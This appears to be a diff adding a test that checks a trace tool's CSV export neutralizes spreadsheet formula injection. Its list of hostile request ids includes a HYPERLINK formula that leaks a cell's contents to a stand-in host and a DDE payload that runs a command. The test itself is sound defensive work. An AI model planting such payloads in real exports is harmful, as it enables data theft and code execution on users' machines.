@@ -84,6 +84,38 @@ def test_exports_hold_the_report_rows(cli: Callable[..., Any], tmp_path: Path) -
     assert json.loads(first["routing_history"]) == rows[0]["routing_history"]
 
 
+HOSTILE_IDS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(A1:A9)", "\ttab", "\rcr first", "cr\rinside", "lf\ninside",
+               'say "hi"', "a,b", "a;=1+2", "plain", "", "0", "'quoted", "=", "\u00e9t\u00e9"]
+
+
+def test_csv_export_quotes_and_neutralizes_trace_text(cli: Callable[..., Any],
+                                                      tmp_path: Path) -> None:
+    """17 requests whose request ids begin with `=`, `+`, `-`, `@`, tab or CR, or hold a CR,
+    LF, quote, comma or semicolon: a CSV reader sees 17 rows (not 18), each id back with a `'`
+    before a formula's first character and nothing else changed; numbers stay numbers."""
+    trace = tmp_path / "hostile.jsonl"
+    trace.write_text("".join(json.dumps({"timestamp": 10 * i, "input_length": 4,
+                                         "output_length": 2, "hash_ids": [i],
+                                         "request_id": rid}) + "\n"
+                             for i, rid in enumerate(HOSTILE_IDS)))
+    out = tmp_path / "rows.csv"
+    ran = cli("run", str(EXAMPLE), "--trace", str(trace), "--export", str(out), "-q")
+    assert ran.code == 0, ran.err
+    with out.open(newline="") as f:
+        table = list(csv.reader(f))
+    assert len(table) == 1 + len(HOSTILE_IDS) == 18
+    ids = [line[table[0].index("request_id")] for line in table[1:]]
+    neutral = ["'" + rid if rid[:1] in ("=", "+", "-", "@", "\t", "\r") else rid
+               for rid in HOSTILE_IDS]
+    assert ids == neutral
+    assert all(not cell or cell[0] not in "=+-@\t\r" for line in table for cell in line
+               if not cell.lstrip("-").replace(".", "", 1).isdigit())
+    text = out.read_bytes().decode("utf-8")
+    assert text.count("\n") - sum(rid.count("\n") for rid in HOSTILE_IDS) == 18
+    assert text.splitlines()[0].startswith("uuid,request_id,session_id,")
+
+
 def test_parquet_export(cli: Callable[..., Any], tmp_path: Path) -> None:
     """The Parquet export has typed columns in COLUMNS order, one row per request."""
     pq = pytest.importorskip("pyarrow.parquet")
